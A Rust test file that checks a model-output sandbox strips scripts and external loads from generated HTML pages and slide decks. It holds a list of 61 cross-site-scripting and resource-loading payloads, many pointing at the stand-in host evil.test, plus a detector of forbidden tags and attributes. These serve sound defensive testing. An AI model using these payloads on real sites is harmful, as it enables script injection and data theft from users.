//! Pages and decks of HTML: whatever a model writes into them, a browser loads and runs nothing.

use djinn_runtime::port::sandbox::{DocumentFormat, RenderValue};

use crate::documents::{draw_chart, render};
use crate::python::{TestSandbox, file, start};

const HTML: (DocumentFormat, &str) = (DocumentFormat::Html, "page.html");
const DECK: (DocumentFormat, &str) = (DocumentFormat::Ppt, "deck.html");

async fn page(sandbox: &TestSandbox, text: &str) -> (RenderValue, String) {
    let (said, made) = render(sandbox, HTML, text, Vec::new()).await;
    (said, made.map_or(String::new(), |made| String::from_utf8(made.content).unwrap()))
}

/// An element of a page: its name and its attributes.
type Tag<'a> = (&'a str, Vec<(&'a str, &'a str)>);

/// The tags of a page as the sandbox writes them: each value in double quotes, each `<` of a text escaped.
fn tags(html: &str) -> Vec<Tag<'_>> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let mut is_quoted = false;
        let is_end = |letter: char| {
            is_quoted ^= letter == '"';
            letter == '>' && !is_quoted
        };
        let end = rest.find(is_end).unwrap();
        let (tag, behind) = rest.split_at(end);
        let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        let mut pairs = Vec::new();
        let mut left = attributes;
        while let Some((key, value)) = left.split_once("=\"") {
            let (value, next) = value.split_once('"').unwrap();
            pairs.push((key.trim(), value));
            left = next;
        }
        tags.push((name, pairs));
        // What stands in these is no markup.
        rest = match name {
            "style" | "script" => &behind[behind.find("</").unwrap()..],
            _ => behind,
        };
    }
    tags
}

/// What a browser would load or run of a page; nothing, if all is well.
fn complaints(html: &str, scripts: usize) -> Vec<String> {
    let mut found = Vec::new();
    let forbidden =
        ["iframe", "object", "embed", "base", "form", "link", "foreignobject", "input", "template"];
    for (name, attributes) in tags(html) {
        if forbidden.contains(&name.to_lowercase().as_str()) {
            found.push(name.to_owned());
        }
        for (key, value) in attributes {
            let allowed = match (name, key) {
                ("a", "href") => {
                    value.starts_with("https:")
                        || value.starts_with("http:")
                        || value.starts_with('#')
                }
                (_, "href") => value.starts_with('#') || value.starts_with("data:image/"),
                (_, "src") => value.starts_with("data:image/"),
                ("meta", "content") => true,
                (
                    _,
                    "srcset" | "srcdoc" | "action" | "formaction" | "background" | "poster"
                    | "http-equiv",
                ) => value == "Content-Security-Policy",
                (_, key) => !key.starts_with("on") && !value.to_lowercase().contains("script:"),
            };
            if !allowed {
                found.push(format!("{name} {key}={value}"));
            }
        }
    }
    let lower = html.to_lowercase();
    let loads = lower.match_indices("url(").filter(|(at, _)| {
        let behind = &lower[at + 4..];
        !["\"data:", "\"#", "&quot;data:", "&quot;#"].iter().any(|begin| behind.starts_with(begin))
    });
    found.extend(loads.map(|(at, _)| lower[at..].chars().take(60).collect()));
    found.extend(lower.match_indices("@import").map(|(_, import)| import.to_owned()));
    found.extend(lower.match_indices("image-set(").map(|(_, load)| load.to_owned()));
    // A browser takes an escaped letter for the letter.
    let mut letters = lower.chars().peekable();
    while let Some(letter) = letters.next() {
        let escaped = letters.next_if(|_| letter == '\\');
        found.extend(escaped.filter(|letter| ('g'..='z').contains(letter)).map(String::from));
    }
    if lower.matches("<script").count() != scripts {
        found.push("a script".to_owned());
    }
    found
}

/// Ways to have a browser run or load something, `X` being what it would run.
const SPELLINGS: [&str; 61] = [
    "<script>X</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>X</scr</script>ipt>",
    "<script/x>X</script>",
    "<script\n>X</script\n>",
    "<script >X</script foo=bar>",
    "<<script>X//<</script>",
    "<script>X",
    "<script\u{0}>X</script>",
    "<svg><script>X</script></svg>",
    "<svg><script href=data:,X /></svg>",
    "<svg onload=X>",
    "<svg/onload=X//",
    "<svg><animate onbegin=X attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:X></svg>",
    "<svg><a xlink:href=javascript:X><text y=9>t</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:X></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=X>#x\" /></svg>",
    "<svg><use xlink:href=\"https://evil.test/x.svg#x\"/></svg>",
    "<svg><image href=\"https://evil.test/x.png\"/></svg>",
    "<svg><feImage href=\"https://evil.test/x.png\"/></svg>",
    "<svg><style>@import 'https://evil.test/x.css';</style></svg>",
    "<svg><style>*{fill:u&#114;l(https://evil.test)}</style></svg>",
    "<svg><rect fill=\"url(https://evil.test/x.svg#a)\"/></svg>",
    "<img src=x onerror=X>",
    "<img src=\"x\" OnErRoR=X>",
    "<img/src/onerror=X>",
    "<img src='https://evil.test/x.png'>",
    "<img srcset='https://evil.test/x.png 2x'>",
    "<img src=javascript:X>",
    "<img src=\"data:text/html,<script>X</script>\">",
    "<picture><source srcset=https://evil.test/x><img src=//evil.test/y></picture>",
    "<body onload=X background=https://evil.test/x>",
    "<div style=\"background:url(https://evil.test)\">t</div>",
    "<div style=\"background:u\\72l(https://evil.test)\">t</div>",
    "<div style=\"background:\\75 rl( 'https://evil.test' )\">t</div>",
    "<div style=\"background:image-set('https://evil.test/x' 1x)\">t</div>",
    "<div style=\"background:url(&quot;https://evil.test&quot;\">t</div>",
    "<style>@import url(https://evil.test/x.css);</style>",
    "<style>@i\\mport 'https://evil.test/x.css';</style>",
    "<style>@\\\\69mport 'https://evil.test/x.css';</style>",
    "<style>@import 'https://evil.test/{';</style>",
    "<div style=\"background:u\\rl(https://evil.test)\">t</div>",
    "<div style=\"background:i\\mage-set('https://evil.test/x' 1x)\">t</div>",
    "<style>@\\69mport 'https://evil.test/x.css';</style>",
    "<style>@font-face{font-family:a;src:url(//evil.test/a.woff)}</style>",
    "<style>a{background:url(/**/https://evil.test)}</style>",
    "<style></style><script>X</script>",
    "<style><!--</style><img src=x onerror=X>--></style>",
    "<a href=javascript:X>t</a>",
    "<a href=\" java\nscript:X\">t</a>",
    "<a href=&#x6A;avascript:X>t</a>",
    "<a href=data:text/html,X>t</a>",
    "<a href=vbscript:X>t</a>",
    "<a href=\"https://a.test\" ping=https://evil.test>t</a>",
    "<iframe srcdoc='<script>X</script>'></iframe>",
    "<object data=https://evil.test></object><embed src=https://evil.test>",
    "<form action=https://evil.test><button formaction=javascript:X>t</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'><base href=https://evil.test>",
    "<math><mtext><table><mglyph><style><img src=x onerror=X>",
    "<noscript><p title=\"</noscript><img src=x onerror=X>\">",
];

#[tokio::test]
#[ignore = "needs a Python: cargo verify --only sandbox"]
async fn no_spelling_of_a_script_or_an_address_gets_into_a_page() {
    let sandbox = start();
    for spelling in SPELLINGS {
        let text = format!("<p>before</p>{spelling}").replace('X', "alert(1)");
        let (said, html) = page(&sandbox, &text).await;
        assert!(html.contains("<p>before</p>"), "{spelling}: {said:?}");
        assert_eq!(complaints(&html, 0), Vec::<String>::new(), "{spelling}: {html}");
        let policy = html.find("<meta http-equiv=\"Content-Security-Policy\"").unwrap();
        assert!(html[..policy].ends_with("<head>\n"), "the policy is not the first: {html}");
    }
    println!("{} spellings of scripts and addresses, 0 got into a page", SPELLINGS.len());
}

#[tokio::test]
#[ignore = "needs a Python: cargo verify --only sandbox"]
async fn a_page_keeps_what_shows_and_inlines_what_is_there() {
    let sandbox = start();
    let chart = draw_chart(&sandbox).await;
    let drawing = file("own.svg", "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>");
    let text = "Here it is:\n```html\n<!doctype html><title>Sales</title>\
        <style>.card{color:#0a5;background:url(chart.png)}</style><body class=dark>\
        <div class=card><h1>销售</h1><a href='https://example.com/?a=1&amp;b=2'>source</a> <a href='#x'>x</a></div>\
        <ul><li>one<li>two</ul><img src='./chart.png' alt='a chart'><img src=own.svg><img src=gone.png alt='not there'>\
        <svg viewBox='0 0 9 9'><linearGradient id=g></linearGradient><rect fill='url(#g)' width=9 height=9 />\
        <text>5 &lt; 6</text></svg><script>document.title</script></body>\n```\nThat is all.";
    let (said, made) = render(&sandbox, HTML, text, vec![chart, drawing]).await;
    let html = String::from_utf8(made.unwrap().content).unwrap();
    assert_eq!(
        (said.missing_images.as_slice(), said.notes.as_slice()),
        (&["gone.png".to_owned()][..], &["scripts".to_owned()][..])
    );
    assert_eq!(complaints(&html, 0), Vec::<String>::new());
    let parts = [
        "<title>Sales</title>",
        "<html lang=\"en\">",
        "<body class=\"dark\">",
        "<h1>销售</h1>",
        "not there",
        "href=\"https://example.com/?a=1&amp;b=2\" rel=\"noopener noreferrer\"",
        "<li>one</li><li>two</li>",
        "alt=\"a chart\"",
        "data:image/png;base64,",
        "data:image/svg+xml;base64,",
        "fill=\"url(&quot;#g&quot;)\"",
        "<text>5 &lt; 6</text>",
        ".card{color:#0a5;background:url(\"data:image/png",
    ];
    for part in parts {
        assert!(html.contains(part), "{part}: {html}");
    }
    assert!(!html.contains("Here it is") && !html.contains("That is all"));
    let (_, markdown) = page(&sandbox, "# Title\n\n- **a**\n\n<script>alert(1)</script>").await;
    assert!(
        markdown.contains("<h1>Title</h1>") && markdown.contains("<strong>a</strong>"),
        "{markdown}"
    );
    assert_eq!(complaints(&markdown, 0), Vec::<String>::new());
}

#[tokio::test]
#[ignore = "needs a Python: cargo verify --only sandbox"]
async fn a_deck_has_a_frame_of_ours_around_the_slides_of_a_model() {
    let sandbox = start();
    let text = "<style>section{display:none}section.active{display:flex}</style>\
        <section class=active><h1>One</h1></section><section><h2>Two</h2><script>next()</script></section>\
        <section hidden><h2>Three</h2></section>";
    let (said, made) = render(&sandbox, DECK, text, Vec::new()).await;
    let html = String::from_utf8(made.unwrap().content).unwrap();
    assert_eq!(said.notes, ["scripts"]);
    assert_eq!(html.matches("<div class=\"djinn-slide\"><section").count(), 3, "{html}");
    assert!(html.contains("1 / 3") && html.contains("3 / 3") && !html.contains("next()"), "{html}");
    assert_eq!(complaints(&html, 1), Vec::<String>::new());
    // The policy names the one script that there is.
    let script = html.split("<script>").nth(1).unwrap().split("</script>").next().unwrap();
    let digest = <sha2::Sha256 as sha2::Digest>::digest(script);
    let named = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, digest);
    assert!(html.contains(&format!("script-src 'sha256-{named}'")), "{named}: {html}");
    let text = "# One\n\ntext\n\n## Two\n\n**7 %**\n\nleft\n\nNotes: say";
    let (_, plain) = render(&sandbox, DECK, text, Vec::new()).await;
    let plain = String::from_utf8(plain.unwrap().content).unwrap();
    assert_eq!(plain.matches("<div class=\"djinn-slide\">").count(), 2, "{plain}");
    let figure = "<p class=\"djinn-figure\"><strong>7 %</strong></p>";
    let notes = "</section><aside class=\"djinn-notes\"><p>Notes: say</p></aside>";
    assert!(plain.contains(figure) && plain.contains(notes), "{plain}");
}
